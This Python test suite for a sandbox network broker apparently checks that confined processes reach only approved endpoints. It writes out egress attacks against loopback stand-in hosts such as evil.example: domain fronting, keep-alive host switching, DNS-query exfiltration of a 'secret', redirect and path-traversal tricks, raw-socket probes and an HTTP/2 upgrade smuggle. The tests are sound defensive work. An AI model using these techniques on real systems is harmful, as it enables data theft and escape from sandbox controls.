"""Promise: connections leave only to approved endpoints, and carry only what was approved.

Each attack first succeeds by way of a proxy that looks at the name in CONNECT, as many do.
"""

from __future__ import annotations

import json
import os
import signal
import socket
import ssl
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from tests.security.arena import Arena, attack, python, shell
from tests.support.internet import Internet, naive_proxy

INSIDE = ("198.18.0.1", 3128)

Arguments = tuple[str, str | None, str, list[str]]
"""CONNECT target, server name, Host of the first request, and of those that follow."""

pytestmark = pytest.mark.needs("curl")


@pytest.fixture
def internet(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Internet]:
    """Hosts on loopback, and a broker that leaves soon after the test."""
    monkeypatch.setenv("CASEMATE_BROKER_IDLE", "0.2")
    monkeypatch.delenv("XDG_RUNTIME_DIR", raising=False)
    directory = tmp_path / "internet"
    directory.mkdir()
    made = Internet(directory)
    yield made
    made.close()


def fronted(
    arena: Arena,
    internet: Internet,
    allow: str,
    *arguments: str | list[str] | None,
) -> tuple[str, str]:
    """What the attack got by a naive proxy, and what inside."""
    host = allow.partition(" ")[0].partition(":")[0]
    authority = str(internet.authority.path)
    with naive_proxy(internet, host) as port:
        bare = arena.bare(
            attack("fronting", json.dumps([("127.0.0.1", port), authority, *arguments]))
        ).json
    inside = arena.inside(
        attack("fronting", json.dumps([INSIDE, None, *arguments])), *internet.options(allow)
    ).json
    return bare, inside


def test_e20_e21_nothing_listed_nothing_reached(arena: Arena, internet: Internet) -> None:
    """Without a rule there is no network; with one, plain HTTP is held to it like any other."""
    server = internet.host("evil.example", port=80, tls=False)
    internet.host("allowed.example", port=80, tls=False)
    fetch = ["curl", "-sS", "-m", "10", "http://evil.example/x"]
    resolve = ["--resolve", f"evil.example:{server.port}:127.0.0.1"]
    bare = arena.bare([*fetch[:-1], *resolve, f"http://evil.example:{server.port}/x"])
    assert json.loads(bare.out)["path"] == "/x"
    server.asked.clear()
    assert arena.inside(fetch).status == 6
    refused = json.loads(arena.inside(fetch, *internet.options("allowed.example:80")).out)
    assert refused["error"] == "host"
    assert refused["allow"] == 'network.allow = ["evil.example:80 GET /x"]'
    direct = arena.inside(
        [*fetch[:1], "--noproxy", "*", *fetch[1:]], *internet.options("allowed.example:80")
    )
    assert json.loads(direct.out)["casemate"] is True
    assert server.asked == []


def test_e24_another_name_in_tls(arena: Arena, internet: Internet) -> None:
    """CONNECT to an allowed host, the server name of another: domain fronting."""
    server = internet.host("allowed.example", "hidden.example")
    arguments: Arguments = ("allowed.example:443", "hidden.example", "hidden.example", [])
    bare, inside = fronted(arena, internet, "allowed.example", *arguments)
    assert " 200 " in bare
    assert [asked["headers"]["host"] for asked in server.asked] == ["hidden.example"]
    server.asked.clear()
    assert " 200 " not in inside
    assert server.asked == []


def test_e24_another_host_within_tls(arena: Arena, internet: Internet) -> None:
    """The right server name, and inside of it a request for another host."""
    server = internet.host("allowed.example", "hidden.example")
    arguments: Arguments = ("allowed.example:443", "allowed.example", "hidden.example", [])
    bare, inside = fronted(arena, internet, "allowed.example GET", *arguments)
    assert " 200 " in bare
    server.asked.clear()
    assert " 403 " in inside
    assert server.asked == []


def test_e22_a_second_host_on_an_open_connection(arena: Arena, internet: Internet) -> None:
    """Keep-alive: the first request is for the allowed host, the next for another."""
    server = internet.host("allowed.example", "hidden.example")
    arguments: Arguments = (
        "allowed.example:443",
        "allowed.example",
        "allowed.example",
        ["hidden.example"],
    )
    bare, inside = fronted(arena, internet, "allowed.example GET", *arguments)
    assert bare.count(" 200 ") == 2
    assert inside.count(" 200 ") == 1
    assert inside.count(" 403 ") == 1
    assert [asked["headers"]["host"] for asked in server.asked[2:]] == ["allowed.example"]


def test_e24_no_name_in_tls(arena: Arena, internet: Internet) -> None:
    """TLS without a server name cannot be held to the name that was asked for."""
    server = internet.host("allowed.example")
    arguments: Arguments = ("allowed.example:443", "", "allowed.example", [])
    bare, inside = fronted(arena, internet, "allowed.example", *arguments)
    assert " 200 " in bare
    server.asked.clear()
    assert " 200 " not in inside
    assert server.asked == []


def test_something_else_on_the_port_of_tls(arena: Arena, internet: Internet) -> None:
    """Plain bytes through a tunnel to port 443 are refused: the rule is for TLS."""
    server = internet.host("allowed.example", tls=False)
    arguments: Arguments = ("allowed.example:443", None, "allowed.example", [])
    bare, inside = fronted(arena, internet, "allowed.example", *arguments)
    assert " 200 " in bare
    server.asked.clear()
    assert "protocol" in inside
    assert server.asked == []


def test_e26_services_of_the_host(arena: Arena, internet: Internet) -> None:
    """A service on the host's loopback is reached by no name or address, but by its own rule."""
    server = internet.host("unused.example", port=80, tls=False)
    port = server.port
    urls = [f"http://{host}:{port}/" for host in ("127.0.0.1", "localhost", "0.0.0.0")]
    script = "; ".join(f"curl -sS -m 10 -o /dev/null {url}; echo $?" for url in urls)
    by_proxy = "; ".join(
        f"curl -sS -m 10 -x http://198.18.0.1:3128 --noproxy '' {url}" for url in urls
    )
    assert arena.bare(shell(script)).out.split() == ["0", "0", "0"]
    server.asked.clear()
    options = internet.options(f"allowed.example:{port}")
    assert arena.inside(shell(by_proxy), *options).out.count('"casemate": true') == 3
    arena.inside(shell(script), *options)
    assert server.asked == []
    listed = arena.inside(shell(script), *internet.options(f"localhost:{port}"))
    assert listed.out.split() == ["0", "0", "0"]
    assert len(server.asked) == 3


def test_e27_names_carry_nothing_out(arena: Arena, internet: Internet) -> None:
    """A question to a name server is heard outside when bare, and answered by the broker inside."""
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.bind(("127.0.0.1", 0))
    server.settimeout(10)
    question = (
        "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)\n"
        "s.sendto(b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\4evil\\0\\0\\1\\0\\1', {place})\n"
        "print(len(s.recv(512)))"
    )
    with server:
        place = ("127.0.0.1", server.getsockname()[1])
        assert arena.bare(python(question.format(place=place)), timeout=20).status != 0
        assert b"secret" in server.recv(512)
        options = internet.options("allowed.example")
        inside = arena.inside(python(question.format(place=("8.8.8.8", 53))), *options)
        assert int(inside.out) > 40
        arena.inside(python(question.format(place=place)), *options)
        server.settimeout(0.2)
        with pytest.raises(TimeoutError):
            server.recv(512)


def test_e28_redirects(arena: Arena, internet: Internet) -> None:
    """Where an allowed host redirects to is judged like any other request."""
    allowed = internet.host("allowed.example", port=80, tls=False)
    evil = internet.host("evil.example", port=80, tls=False)
    target = "http://evil.example/stolen"
    fetch = ["curl", "-sS", "-m", "10", "-L", f"http://allowed.example/redirect/{target}"]
    with naive_proxy(internet, ".example") as port:
        bare = arena.bare(fetch, environment={"http_proxy": f"http://127.0.0.1:{port}"})
    assert json.loads(bare.out)["path"] == "/stolen"
    allowed.asked.clear()
    evil.asked.clear()
    inside = arena.inside(fetch, *internet.options("allowed.example:80"))
    assert json.loads(inside.out)["error"] == "host"
    assert len(allowed.asked) == 1
    assert evil.asked == []


def test_e30_other_protocols(arena: Arena, internet: Internet) -> None:
    """With a network there is still no UDP but to the name server, no raw and no packet socket."""
    probe = python(
        "import socket, json\n"
        "found = []\n"
        "def attempt(name, act):\n"
        "    try: act()\n"
        "    except OSError: return\n"
        "    found.append(name)\n"
        "def udp():\n"
        "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('8.8.8.8', 443))\n"
        "    for _ in range(3): s.send(b'x')\n"
        "attempt('udp', udp)\n"
        "attempt('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))\n"
        "attempt('ping', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1))\n"
        "attempt('packet', lambda: socket.socket(17, socket.SOCK_RAW, 3))\n"
        "attempt('vsock', lambda: socket.socket(40, socket.SOCK_STREAM))\n"
        "attempt('netlink', lambda: socket.socket(16, socket.SOCK_RAW, 12))\n"
        "attempt('port', lambda: socket.create_connection(('8.8.8.8', 25), 5))\n"
        "print(json.dumps(found))"
    )
    assert "vsock" in arena.bare(probe).json
    assert arena.inside(probe, *internet.options("allowed.example")).json == []


def test_nothing_inside_holds_the_listeners(arena: Arena, internet: Internet) -> None:
    """No process of the sandbox can accept what was meant for the broker."""
    look = "for p in /proc/[0-9]*; do ls -l $p/fd 2>/dev/null; done | grep -c socket: || true"
    inside = arena.inside(shell(look), *internet.options("allowed.example:80,443"))
    assert inside.out.strip() == "0"


def test_e32_methods_and_paths(arena: Arena, internet: Internet) -> None:
    """At an allowed host only the approved methods and paths are served."""
    server = internet.host("api.example")
    script = "; ".join(
        f"curl -sS -m 10 -o /dev/null -w '%{{http_code}} ' {words} https://api.example{path}"
        for words, path in [
            ("", "/repos/mine/x"),
            ("-X POST", "/repos/mine/x"),
            ("", "/user/secrets"),
            ("--path-as-is", "/repos/mine/../../user/secrets"),
            ("--path-as-is", "/repos/mine/%2e%2e/%2e%2e/user/secrets"),
        ]
    )
    inside = arena.inside(shell(script), *internet.options("api.example GET /repos/mine/**"))
    assert inside.out.split() == ["200", "403", "403", "403", "403"]
    assert [(asked["method"], asked["path"]) for asked in server.asked] == [
        ("GET", "/repos/mine/x")
    ]


def test_budgets_hold(arena: Arena, internet: Internet) -> None:
    """Requests and bytes beyond a budget are refused; what was approved before went through."""
    server = internet.host("api.example", port=80, tls=False)
    fetch = "for i in 1 2 3 4 5; do curl -sS -m 10 -w ' %{http_code}\\n' http://api.example/; done"
    inside = arena.inside(shell(fetch), *internet.options("api.example:80 <=3req"))
    assert [
        line.split()[-1] for line in inside.out.splitlines() if line.endswith(("200", "403"))
    ] == [
        *["200"] * 3,
        *["403"] * 2,
    ]
    assert len(server.asked) == 3
    large = "curl -sS -m 10 http://api.example/bytes/5000000 | wc -c"
    inside = arena.inside(shell(large), *internet.options("api.example:80 <=1MB down"))
    assert int(inside.out) < 1_000_000


def test_e41_the_broker_is_killed(arena: Arena, internet: Internet) -> None:
    """Without its broker a sandbox has no network: never an open one."""
    server = internet.host("allowed.example", port=80, tls=False)
    fetch = "curl -sS -m 5 -o /dev/null -w '%{http_code}\\n' http://allowed.example/"
    script = f"{fetch}; touch /tmp/ready; read line; {fetch} || echo failed"
    with arena.started(shell(script), *internet.options("allowed.example:80")) as process:
        assert process.stdout and process.stdin
        assert process.stdout.readline() == b"200\n"
        brokers = _processes("casemate.egress.broker", str(arena.state))
        assert len(brokers) == 1
        os.kill(brokers[0], signal.SIGKILL)
        process.stdin.write(b"\n")
        process.stdin.close()
        assert process.stdout.read().endswith(b"failed\n")
    assert len(server.asked) == 1


def test_the_broker_leaves_with_nobody_there(arena: Arena, internet: Internet) -> None:
    """Nothing of a session goes on after it: the broker ends when it is idle."""
    internet.host("allowed.example", port=80, tls=False)
    arena.inside(["true"], *internet.options("allowed.example:80"))
    deadline = time.monotonic() + 10
    while _processes("casemate.egress.broker", str(arena.state)) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert _processes("casemate.egress.broker", str(arena.state)) == []


def test_trust_is_of_one_session(arena: Arena, internet: Internet) -> None:
    """The authority that a session trusts is of that session alone, and its key nowhere."""
    internet.host("api.example")
    show = shell("tail -30 $SSL_CERT_FILE; curl -sS -m 10 https://api.example/ >&2")
    runs = [arena.inside(show, *internet.options("api.example GET")) for _ in range(2)]
    last = [run.out.rpartition("-----BEGIN CERTIFICATE-----")[2] for run in runs]
    assert len(set(last)) == 2
    assert all('"method": "GET"' in run.err for run in runs)
    assert not list(arena.state.rglob("*.pem"))
    context = ssl.create_default_context()
    assert not any("casemate" in str(known) for known in context.get_ca_certs())


def _processes(module: str, argument: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        try:
            words = (entry / "cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        if all(any(part.encode() in word for word in words) for part in (module, argument)):
            found.append(int(entry.name))
    return found


def test_no_other_version_of_http_is_begun(arena: Arena, internet: Internet) -> None:
    """An upgrade to HTTP/2 in the clear would hide the requests after it from the path rules."""
    server = internet.host("api.example", port=80, tls=False)
    script = (
        "curl -sS -m 10 -H 'Connection: Upgrade, HTTP2-Settings' -H 'Upgrade: h2c' "
        "-H 'HTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA' http://api.example/ok"
    )
    inside = arena.inside(shell(script), *internet.options("api.example:80 GET /ok"))
    assert json.loads(inside.out)["path"] == "/ok"
    assert "upgrade" not in server.asked[0]["headers"]
    assert "http2-settings" not in server.asked[0]["headers"]
